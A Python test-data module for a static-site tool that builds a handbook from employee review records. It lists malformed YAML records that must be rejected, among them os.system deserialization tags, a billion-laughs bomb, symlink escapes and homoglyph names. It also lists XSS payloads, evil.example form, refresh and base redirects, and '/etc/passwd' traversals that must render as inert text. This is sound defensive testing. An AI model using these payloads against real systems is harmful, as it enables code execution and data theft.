"""The hostile corpus as data: each case is a file (or a few) and what must come of it.

REJECTED cases make `mus check` exit 1 with one message at an exact `path:line:`.
ACCEPTED cases all go into one handbook, built once; each names the text a reader
must still see on its person's page. Payloads say `alert(` or `evil`, so the site
scan can tell markup that came from a record from the theme's own.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ANNA = "content/people/anna-jensen"
REC = f"{ANNA}/2026-03-12.md"
INDEX = f"{ANNA}/index.md"


def rec(front: str = "", body: str = "Noter.\n") -> str:
    """A record of 2026-03-12; `front` starts on line 3, the body on the line after the fence."""
    return f"---\ndate: 2026-03-12\n{front}---\n{body}"


def agreement(what: str = '"Får en mentor"', extra: str = "") -> str:
    """An agreement whose `what` is on line 5 of the record."""
    return f"agreements:\n  - id: mentor\n    what: {what}\n    owner: employee\n    deadline: 2026-06-30\n{extra}"


@dataclass(frozen=True)
class Rejected:
    name: str
    files: dict[str, str | bytes]
    path: str
    line: int
    gist: str
    setup: Callable[[Path], None] | None = None

    def __str__(self) -> str:
        return self.name


def _outside(root: Path) -> Path:
    """A file beside the handbook, outside the repository."""
    target = root.parent / "outside" / "secret.md"
    target.parent.mkdir(exist_ok=True)
    target.write_text("---\ndate: 2026-03-12\nprivate: uden for repositoriet\n---\n")
    return target


def _symlink_record(root: Path) -> None:
    (root / REC).symlink_to(_outside(root))


def _symlink_index(root: Path) -> None:
    (root / INDEX).unlink()
    (root / INDEX).symlink_to(_outside(root))


def _symlink_folder(root: Path) -> None:
    (root / "content/people/ghost").symlink_to(_outside(root).parent, target_is_directory=True)


def _symlink_people(root: Path) -> None:
    """content/people replaced by a link to another checkout's records."""
    elsewhere = root.parent / "other-repository" / "people"
    elsewhere.parent.mkdir()
    (root / "content/people").rename(elsewhere)
    (root / "content/people").symlink_to(elsewhere, target_is_directory=True)


def _case_twin(root: Path) -> None:
    twin = root / "content/people/Anna-Jensen"
    twin.mkdir()
    (twin / "index.md").write_text('---\nname: "Anna Jensen"\n---\n')


def _folder_without_index(root: Path) -> None:
    (root / "content/people/carl-berg").mkdir()


def _folder_named(name: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        folder = root / "content/people" / name
        folder.mkdir()
        (folder / "index.md").write_text('---\nname: "X"\n---\n')

    return setup


def _undecodable_folder(root: Path) -> None:
    os.mkdir(os.fsencode(root / "content/people") + b"/\xff\xfe")


def _directory_as_record(root: Path) -> None:
    (root / REC).mkdir()


def _fifo_as_record(root: Path) -> None:
    os.mkfifo(root / REC)  # reading it would wait for ever


def _fifo_as_index(root: Path) -> None:
    (root / INDEX).unlink()
    os.mkfifo(root / INDEX)


def _ten_megabytes(root: Path) -> None:
    head = rec().encode()
    (root / REC).write_bytes(head + b"x" * (10_000_000 - len(head)))


BILLION_LAUGHS = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
)

REJECTED = [
    # --- splitting the file ------------------------------------------------------------
    Rejected("json-front-matter", {REC: '{"date": "2026-03-12"}\n'}, REC, 1, "not JSON"),
    Rejected("json-after-bom", {REC: '\ufeff{"date": "2026-03-12"}\n'}, REC, 1, "not JSON"),
    Rejected("toml-front-matter", {REC: "+++\ndate = 2026-03-12\n+++\n"}, REC, 1, "not TOML ('+++')"),
    Rejected(
        "missing-closing-fence",
        {REC: "---\ndate: 2026-03-12\nprivate: hemmeligt\n\nNoter\n"},
        REC,
        1,
        "the front matter is not closed",
    ),
    Rejected("dots-terminator", {REC: "---\ndate: 2026-03-12\n...\nNoter\n"}, REC, 3, "not '...'"),
    Rejected(
        "dots-terminator-crlf", {REC: b"---\r\ndate: 2026-03-12\r\n...\r\nNoter\r\n"}, REC, 3, "not '...'"
    ),
    Rejected("empty-file", {REC: ""}, REC, 1, "the file is empty"),
    Rejected("blank-file", {REC: "\n \n\t\n"}, REC, 1, "the file is empty"),
    Rejected(
        "front-matter-list", {REC: "---\n- date\n- 2026-03-12\n---\n"}, REC, 2, "must be keys and values"
    ),
    Rejected("front-matter-scalar", {REC: "---\n2026-03-12\n---\n"}, REC, 2, "must be keys and values"),
    Rejected("front-matter-empty", {REC: "---\n---\nNoter\n"}, REC, 1, "the front matter is empty"),
    Rejected("leading-blank-line", {REC: "\n---\ndate: 2026-03-12\n---\n"}, REC, 1, "remove the blank lines"),
    # --- bytes -------------------------------------------------------------------------
    Rejected(
        "latin-1-in-body",
        {REC: b"---\ndate: 2026-03-12\n---\nNoter\nS\xf8ren sagde ja\n"},
        REC,
        5,
        "not valid UTF-8 (byte 0xf8)",
    ),
    Rejected(
        "utf-16-file", {REC: rec().encode("utf-16")}, REC, 1, "not valid UTF-8 (byte 0xff); save it with"
    ),
    Rejected(
        "nul-byte-in-front-matter",
        {REC: b"---\ndate: 2026-03-12\nmanager: bo\x00-hansen\n---\n"},
        REC,
        3,
        "control character (U+0000), which YAML does not allow",
    ),
    Rejected(
        "raw-escape-character",
        {REC: rec(agreement('"R\x1b[31md tekst"'))},
        REC,
        5,
        "control character (U+001B), which YAML does not allow",
    ),
    Rejected(
        "escaped-nul-in-text",
        {REC: rec(agreement('"Får\\0en mentor"'))},
        REC,
        5,
        "'what' holds a control character (U+0000)",
    ),
    Rejected(
        "escaped-terminal-codes-in-name",
        {INDEX: '---\nname: "Anna \\e[2J\\e[31mJensen"\n---\n'},
        INDEX,
        2,
        "'name' holds a control character (U+001B)",
    ),
    Rejected(
        "tab-indentation",
        {REC: rec(agreement().replace("    owner", "\towner"))},
        REC,
        6,
        "a tab is used for indentation",
    ),
    # --- keys --------------------------------------------------------------------------
    Rejected(
        "duplicate-key",
        {REC: rec("private: a\nprivate: b\n")},
        REC,
        4,
        "duplicate key 'private' (first on line 3)",
    ),
    Rejected(
        "duplicate-key-in-item",
        {REC: rec(agreement(extra='    what: "Noget andet"\n'))},
        REC,
        8,
        "duplicate key 'what' (first on line 5)",
    ),
    Rejected(
        "duplicate-key-in-flow-mapping",
        {REC: rec("follow_up: [{agreement: 2025-03-10/excel-kursus, agreement: x, evaluation: ok}]\n")},
        REC,
        3,
        "duplicate key 'agreement' (first on line 3)",
    ),
    Rejected(
        "merge-key",
        {REC: rec("agreements:\n  - <<: {id: a, what: b}\n")},
        REC,
        4,
        "merge keys (<<) are not allowed",
    ),
    Rejected(
        "anchor-and-alias",
        {REC: rec("private: &p hemmelig\nnext_mus: *p\n")},
        REC,
        3,
        "YAML anchors (&'p') are not allowed",
    ),
    Rejected("billion-laughs", {REC: rec(BILLION_LAUGHS)}, REC, 3, "YAML anchors (&'a') are not allowed"),
    Rejected(
        "list-as-key",
        {REC: rec("? [a, b]\n: c\n")},
        REC,
        3,
        "a key must be plain text, not a list or a mapping",
    ),
    Rejected(
        "huge-unknown-key",
        {REC: rec("x" * 1000 + ": 1\n")},
        REC,
        3,
        "unknown key 'xxxxxxxxxx",
    ),
    Rejected(
        "private-in-person",
        {INDEX: '---\nname: "Anna Jensen"\nprivate: "kun HR"\n---\n'},
        INDEX,
        3,
        "unknown key 'private'",
    ),
    # --- tags --------------------------------------------------------------------------
    Rejected(
        "python-object-apply",
        {REC: rec("private: !!python/object/apply:os.system ['touch pwned-by-record']\n")},
        REC,
        3,
        "YAML tags such as '!!python/object/apply:os.system' are not allowed; remove the tag",
    ),
    Rejected(
        "python-name",
        {REC: rec("manager: !!python/name:os.system\n")},
        REC,
        3,
        "are not allowed; remove the tag",
    ),
    Rejected(
        "verbatim-python-tag",
        {REC: rec("private: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n")},
        REC,
        3,
        "are not allowed; remove the tag",
    ),
    Rejected("local-tag", {REC: rec("private: !hemmelig tekst\n")}, REC, 3, "YAML tags such as '!hemmelig'"),
    # --- quotes and escapes ------------------------------------------------------------
    Rejected(
        "unclosed-double-quote",
        {REC: rec(agreement('"Får en'))},
        REC,
        5,
        "a quote is opened here but never closed",
    ),
    Rejected(
        "unclosed-single-quote",
        {REC: rec(agreement("'Får en"))},
        REC,
        5,
        "a quote is opened here but never closed",
    ),
    Rejected(
        "windows-path-in-double-quotes",
        {REC: rec(agreement('"Gem filen i C:\\data\\mus"'))},
        REC,
        5,
        "write \\\\ for a backslash, or put the text in single quotes",
    ),
    Rejected(
        "lone-surrogate-escape",
        {REC: rec(agreement('"Tekst \\ud800"'))},
        REC,
        5,
        "escape is not a character that can be written",
    ),
    # --- size and depth ----------------------------------------------------------------
    Rejected(
        "ten-megabyte-record", {}, REC, 1, "the file is 10.0 MB; a record must be under 1 MB", _ten_megabytes
    ),
    Rejected(
        "10000-deep-flow-sequence",
        {REC: rec("private: " + "[" * 10_000 + "]" * 10_000 + "\n")},
        REC,
        3,
        "nested more than 30 levels deep",
    ),
    Rejected(
        "10000-deep-flow-mapping",
        {REC: rec("private: " + "{a: " * 10_000 + "b" + "}" * 10_000 + "\n")},
        REC,
        3,
        "nested more than 30 levels deep",
    ),
    Rejected(
        "1000-deep-block-mapping",
        {REC: rec("private:\n" + "".join(" " * (i + 1) + f"k{i}:\n" for i in range(1000)))},
        REC,
        33,
        "nested more than 30 levels deep",
    ),
    Rejected(
        "5000-digit-number-as-text",
        {REC: rec(agreement("1" * 5000))},
        REC,
        5,
        "is read by YAML as a number, not text",
    ),
    Rejected("5000-digit-date", {REC: rec("next_mus: " + "9" * 5000 + "\n")}, REC, 3, "is not a date"),
    # --- dates -------------------------------------------------------------------------
    Rejected(
        "impossible-deadline",
        {REC: rec(agreement().replace("2026-06-30", "2026-04-31"))},
        REC,
        7,
        "'deadline: 2026-04-31' is not a date that exists",
    ),
    Rejected(
        "not-a-leap-year",
        {REC: rec("next_mus: 2027-02-29\n")},
        REC,
        3,
        "'next_mus: 2027-02-29' is not a date that exists",
    ),
    Rejected(
        "month-thirteen",
        {REC: "---\ndate: 2026-13-01\n---\n"},
        REC,
        2,
        "'date: 2026-13-01' is not a date that exists",
    ),
    Rejected(
        "impossible-file-name",
        {f"{ANNA}/2026-02-30.md": "---\ndate: 2026-02-30\n---\n"},
        f"{ANNA}/2026-02-30.md",
        1,
        "the file name is not a date that exists",
    ),
    Rejected(
        "date-as-mapping",
        {REC: "---\ndate: {year: 2026}\n---\n"},
        REC,
        2,
        "'date' must be a date written YYYY-MM-DD, not a group of keys",
    ),
    # --- YAML 1.1 readings -------------------------------------------------------------
    Rejected(
        "yaml11-status-yes",
        {REC: rec(agreement(extra="    status: yes\n"))},
        REC,
        8,
        "'status: yes' is not a status (YAML reads it as true or false)",
    ),
    Rejected(
        "yaml11-title-off",
        {INDEX: "---\nname: Anna Jensen\ntitle: Off\n---\n"},
        INDEX,
        3,
        "'title: Off' is read by YAML as true or false",
    ),
    Rejected("yaml11-sexagesimal", {REC: rec(agreement("190:20:30"))}, REC, 5, "is read by YAML as a number"),
    Rejected("yaml11-hex", {REC: rec(agreement("0x1F"))}, REC, 5, 'put it in double quotes: what: "0x1F"'),
    Rejected("yaml11-octal", {REC: rec(agreement("017"))}, REC, 5, 'put it in double quotes: what: "017"'),
    Rejected("yaml11-infinity", {REC: rec(agreement(".inf"))}, REC, 5, "is read by YAML as a number"),
    Rejected("yaml11-null", {REC: rec(agreement("~"))}, REC, 5, "'what' is empty"),
    Rejected("yaml-date-as-text", {REC: rec(agreement("2026-03-12"))}, REC, 5, "is read by YAML as a date"),
    # --- the file system ---------------------------------------------------------------
    Rejected("symlinked-record", {}, REC, 1, "is a symbolic link", _symlink_record),
    Rejected("symlinked-index", {}, INDEX, 1, "is a symbolic link", _symlink_index),
    Rejected("symlinked-person-folder", {}, "content/people/ghost", 1, "is a symbolic link", _symlink_folder),
    Rejected("symlinked-people-folder", {}, "content/people", 1, "is a symbolic link", _symlink_people),
    Rejected(
        "folders-differing-in-case",
        {},
        "content/people/Anna-Jensen",
        1,
        "'Anna-Jensen' is not a valid person id",
        _case_twin,
    ),
    Rejected(
        "homoglyph-folder",
        {},
        "content/people/\u0430nna-jensen",
        1,
        "is not a valid person id",
        _folder_named("\u0430nna-jensen"),
    ),
    Rejected(
        "right-to-left-override-folder",
        {},
        "content/people/anna?jensen",
        1,
        "'anna?jensen' is not a valid person id",
        _folder_named("anna\u202ejensen"),
    ),
    Rejected(
        "undecodable-folder-name",
        {},
        "content/people/\ufffd\ufffd",
        1,
        "is not a valid person id",
        _undecodable_folder,
    ),
    Rejected(
        "folder-without-index", {}, "content/people/carl-berg/index.md", 1, "missing", _folder_without_index
    ),
    Rejected("folder-named-like-a-record", {}, REC, 1, "is not an ordinary file", _directory_as_record),
    Rejected("fifo-named-like-a-record", {}, REC, 1, "is not an ordinary file", _fifo_as_record),
    Rejected("fifo-as-index", {}, INDEX, 1, "is not an ordinary file", _fifo_as_index),
    # --- private parts -----------------------------------------------------------------
    Rejected(
        "unclosed-private-section",
        {REC: rec(body="Noter.\n<!-- private -->\nhemmelig\n")},
        REC,
        5,
        "'<!-- private -->' is never closed",
    ),
    Rejected(
        "misspelt-private-marker",
        {REC: rec(body="Noter.\n<!-- privat -->\nhemmelig\n<!-- /privat -->\n")},
        REC,
        5,
        "'<!-- privat -->' looks like a private marker but is not one",
    ),
    Rejected(
        "private-marker-with-a-note",
        {REC: rec(body="Noter. <!-- private: løn --> 42.000 kr.\n")},
        REC,
        4,
        "'<!-- private: løn -->' looks like a private marker",
    ),
]


# --- accepted and rendered safely ------------------------------------------------------

ACCEPTED_DATE = "2026-03-12"


@dataclass(frozen=True)
class Accepted:
    """A person (id = name) with an index.md and maybe one record, which must build.

    `visible`: text a reader must see on the person's page, as text.
    `absent`: text that must appear in no file of the site.
    """

    name: str
    person: dict[str, str] = field(default_factory=dict)
    body: str = ""
    record: str | bytes | None = None
    visible: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.name

    def files(self) -> dict[str, str | bytes]:
        values = {"name": f"Person {self.name}", **self.person}
        front = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())
        files: dict[str, str | bytes] = {"index.md": f"---\n{front}---\n{self.body}"}
        if self.record is not None:
            files[f"{ACCEPTED_DATE}.md"] = self.record
        return files


def note(body: str, front: str = "") -> str:
    return f"---\ndate: {ACCEPTED_DATE}\n{front}---\n{body}\n"


ALERT = "alert(1)"

ACCEPTED = [
    # --- names, titles and departments: <title>, meta, navigation, search ----------------
    Accepted(
        "title-breakout-in-name",
        {"name": "</title><script>alert('navn')</script>"},
        visible=("</title><script>alert('navn')</script>",),
    ),
    Accepted(
        "attribute-breakout-in-name",
        {"name": '"><img src=x onerror=alert(1)>', "manager": "title-breakout-in-name"},
        visible=('"><img src=x onerror=alert(1)>',),
    ),
    Accepted(
        "title-breakout-in-job-title",
        {"title": "</title><script>alert('stilling')</script>"},
        visible=("</title><script>alert('stilling')</script>",),
    ),
    Accepted(
        "attribute-breakout-in-title",
        {"title": '"><img src=x onerror=alert(1)>'},
        visible=('"><img src=x onerror=alert(1)>',),
    ),
    Accepted(
        "svg-onload-in-department",
        {"department": "<svg onload=alert(1)>", "manager": "title-breakout-in-name"},
        visible=("<svg onload=alert(1)>",),
    ),
    Accepted(
        "title-breakout-in-department",
        {"department": "</title><script>alert('afdeling')</script>"},
        visible=("</title><script>alert('afdeling')</script>",),
    ),
    Accepted(
        "right-to-left-override-in-name",
        {"name": "Mette \u202eevil.exe\u202c Hansen"},
        visible=("Mette evil.exe Hansen",),
        absent=("\u202e",),
    ),
    Accepted(
        "attribute-list-in-name",
        {"name": 'Kim {: onclick="alert(1)" }'},
        visible=('Kim {: onclick="alert(1)" }',),
    ),
    Accepted(
        "markdown-link-in-name",
        {"name": "**Fed** [klik](javascript:alert(1))"},
        visible=("**Fed** [klik](javascript:alert(1))",),
    ),
    Accepted(
        "entities-in-name",
        {"name": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;"},
        visible=("&lt;script&gt;alert(1)&lt;/script&gt; &amp;",),
    ),
    Accepted(
        "snippet-in-title",
        {"title": '--8<-- "{OUTSIDE}"'},
        visible=('--8<-- "{OUTSIDE}"',),
        absent=("OUTSIDE-SECRET-CONTENT",),
    ),
    Accepted(
        "javascript-email",
        {"email": "javascript:alert(1)//@example.com"},
        visible=("javascript:alert(1)//@example.com",),
    ),
    Accepted(
        "html-in-person-body",
        body="Om mig <script>alert('om')</script> <iframe src=javascript:alert(1)></iframe>\n",
        visible=("Om mig <script>alert('om')</script>",),
    ),
    # --- record bodies -------------------------------------------------------------------
    Accepted(
        "script-in-body",
        record=note("Før <script>alert('krop')</script> efter"),
        visible=("Før <script>alert('krop')</script> efter",),
    ),
    Accepted(
        "svg-onload-in-body",
        record=note("<svg onload=alert(1)><circle r=5/></svg>"),
        visible=("<svg onload=alert(1)>",),
    ),
    Accepted(
        "iframe-in-body",
        record=note('<iframe src="javascript:alert(1)"></iframe>'),
        visible=('<iframe src="javascript:alert(1)">',),
    ),
    Accepted(
        "meta-refresh-in-body",
        record=note('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
        visible=('<meta http-equiv="refresh"',),
    ),
    Accepted(
        "base-in-body",
        record=note('<base href="https://evil.example/">'),
        visible=('<base href="https://evil',),
    ),
    Accepted(
        "form-in-body",
        record=note('<form action="https://evil.example/"><input name="kode"></form>'),
        visible=('<form action="https://evil.example/">',),
    ),
    Accepted(
        "style-in-body",
        record=note("<style>body{display:none;background:url(https://evil.example/)}</style>"),
        visible=("<style>body{display:none",),
    ),
    Accepted(
        "img-onerror-in-body",
        record=note("<img src=x onerror=alert(1)>"),
        visible=("<img src=x onerror=alert(1)>",),
    ),
    Accepted(
        "raw-javascript-anchor",
        record=note('<a href="javascript:alert(1)">klik</a>'),
        visible=('<a href="javascript:alert(1)">klik</a>',),
    ),
    Accepted(
        "details-ontoggle",
        record=note("<details open ontoggle=alert(1)><summary>x</summary></details>"),
        visible=("<details open ontoggle=alert(1)>",),
    ),
    Accepted(
        "noscript-differential",
        record=note('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        visible=("<noscript>",),
    ),
    Accepted(
        "comment-trick",
        record=note("Synligt <!--><script>alert(1)</script>--> efter"),
        visible=("Synligt", "efter"),
    ),
    Accepted(
        "javascript-link",
        record=note("[Kursus](javascript:alert(1)) slut"),
        visible=("Kursus slut",),
    ),
    Accepted(
        "entity-obfuscated-javascript-link",
        record=note("[Kursus](jav&#x61;script:alert(1)) og [to](&#106;avascript:alert(1))"),
        visible=("Kursus og to",),
    ),
    Accepted("data-link", record=note("[Kursus](data:text/html;base64,PHNjcmlwdD4=)"), visible=("Kursus",)),
    Accepted(
        "data-image",
        record=note("![billede](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        visible=("![billede](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",),
    ),
    Accepted(
        "javascript-image",
        record=note("![billede](javascript:alert(1))"),
        visible=("![billede](javascript:alert(1))",),
    ),
    Accepted(
        "link-title-breakout",
        record=note('[Kursus](https://example.com/ "titel\\" onmouseover=\\"alert(1)")'),
        visible=("Kursus",),
    ),
    Accepted(
        "autolink-quote-breakout",
        record=note('<https://example.com/"onmouseover="alert(1)>'),
        visible=('https://example.com/"onmouseover="alert(1)',),
    ),
    Accepted(
        "attribute-list-in-heading",
        record=note('# Titel {: onclick="alert(1)" }\n\nTekst {: .x onmouseover="alert(1)" }'),
        visible=('Titel {: onclick="alert(1)" }', 'Tekst {: .x onmouseover="alert(1)" }'),
    ),
    Accepted(
        "snippet-include",
        record=note('--8<-- "{OUTSIDE}"\n\n;--8<-- "../../../../outside/secret.txt"'),
        visible=('--8<-- "{OUTSIDE}"',),
        absent=("OUTSIDE-SECRET-CONTENT",),
    ),
    Accepted(
        "parent-image-path",
        record=note("![hemmelig](../../../../outside/secret.png) og ![x](/etc/passwd)"),
        visible=("![hemmelig](../../../../outside/secret.png)", "![x](/etc/passwd)"),
        absent=("OUTSIDE-SECRET-PNG", "root:x:0:0"),
    ),
    Accepted(
        "entity-encoded-script",
        record=note("&#60;script&#62;alert(1)&#60;/script&#62;"),
        visible=("<script>alert(1)</script>",),
    ),
    Accepted(
        "control-characters-in-body",
        record=note("Kontrol\x01tegn\x07 og NUL\x00 og \x02wzxhzdk:0\x03 og &#2;wzxhzdk:1&#3; slut"),
        visible=("Kontroltegn og NUL og wzxhzdk:0 og wzxhzdk:1 slut",),
    ),
    Accepted(
        "bom-and-crlf",
        record=("\ufeff" + note("Windows-noter\nanden linje")).replace("\n", "\r\n").encode("utf-8"),
        visible=("Windows-noter anden linje",),
    ),
    Accepted(
        "10000-deep-blockquote",
        record=note(">" * 10_000 + " dybt"),
        visible=("dybt",),
    ),
    Accepted(
        "10000-brackets",
        record=note("[" * 10_000 + "x" + "]" * 10_000 + "(javascript:alert(1))"),
        visible=("[[[[x]]]]",),
    ),
    Accepted(
        "5000-brackets",
        record=note("[" * 5_000 + "x" + "]" * 5_000 + "(javascript:alert(1))\n\n" + "![" * 2_000),
        visible=("[[[[x]]]]", "]]]](javascript:alert(1))", "![![![![!["),
    ),
    Accepted(
        "huge-block-as-plain-text",
        record=note("\n".join(["<script>alert('stor')</script>"] + [f"linje {i}" for i in range(600)])),
        visible=("<script>alert('stor')</script> linje 0 linje 1",),
    ),
    Accepted(
        "html-in-agreement-fields",
        record=note(
            "Noter.",
            "agreements:\n"
            "  - id: kursus\n"
            "    what: \"<script>alert('aftale')</script>\"\n"
            "    owner: employee\n"
            "    deadline: 2026-12-01\n"
            "    note: '{: onclick=\"alert(1)\" } <img src=x onerror=alert(1)>'\n",
        ),
        visible=("<script>alert('aftale')</script>", '{: onclick="alert(1)" } <img src=x onerror=alert(1)>'),
    ),
    Accepted(
        "multi-line-block-scalar",
        record=note(
            "Noter.",
            "agreements:\n"
            "  - id: kursus\n"
            "    what: |\n"
            "      Linje et <b>fed</b>\n"
            "      </td></tr></table><script>alert('tabel')</script>\n"
            "    owner: employee\n"
            "    deadline: 2026-12-01\n",
        ),
        visible=("Linje et <b>fed</b> </td></tr></table><script>alert('tabel')</script>",),
    ),
    Accepted(
        "private-inline-and-value",
        record=note(
            "Offentligt <!-- private -->HEMMELIG-INLINE-TEKST<!-- /private --> igen",
            "private:\n  helbred: HEMMELIG-MAP-VAERDI\n  noter: [HEMMELIG-LISTE-VAERDI]\n",
        ),
        visible=("Offentligt igen",),
        absent=("HEMMELIG-INLINE-TEKST", "HEMMELIG-MAP-VAERDI", "HEMMELIG-LISTE-VAERDI"),
    ),
    # --- bodies of more blocks than Markdown reads in linear time: shown as plain text ----
    Accepted(
        "20000-paragraphs",
        record=note(
            "<script>alert('afsnit')</script>\n\n**fed**\n\n"
            + "\n\n".join(f"afsnit {i}" for i in range(20_000))
        ),
        visible=("<script>alert('afsnit')</script> **fed** afsnit 0 afsnit 1", "afsnit 19998 afsnit 19999"),
    ),
    Accepted(
        "5000-code-blocks",
        record=note("    <img src=x onerror=alert(1)>\n\n" * 5_000 + "slut"),
        visible=("<img src=x onerror=alert(1)> <img src=x onerror=alert(1)>", "slut"),
    ),
    Accepted(
        "100000-empty-lines",
        record=note("før [klik](javascript:alert(1))" + "\n" * 100_000 + "efter"),
        visible=("før [klik](javascript:alert(1)) efter",),
    ),
]
